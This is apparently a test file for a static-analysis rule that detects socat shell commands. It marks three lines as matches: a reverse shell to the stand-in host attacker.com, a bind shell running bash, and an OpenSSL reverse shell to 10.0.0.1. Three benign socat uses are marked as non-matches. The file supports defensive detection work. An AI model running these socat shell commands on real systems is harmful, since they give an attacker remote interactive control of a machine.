# ruleid: bash.socat-shell
socat tcp-connect:attacker.com:12345 exec:/bin/sh,pty,stderr,setsid,sigint,sane
# ruleid: bash.socat-shell
socat TCP-LISTEN:12345,reuseaddr,fork EXEC:bash,pty,stderr
# ruleid: bash.socat-shell
socat OPENSSL:10.0.0.1:443,verify=0 EXEC:'/bin/bash -li',pty,stderr
# ok: bash.socat-shell
socat TCP-LISTEN:8080,fork TCP:localhost:80
# ok: bash.socat-shell
socat - EXEC:'ssh -p 22 host',pty
# ok: bash.socat-shell
socat -d -d pty,raw,echo=0 pty,raw,echo=0
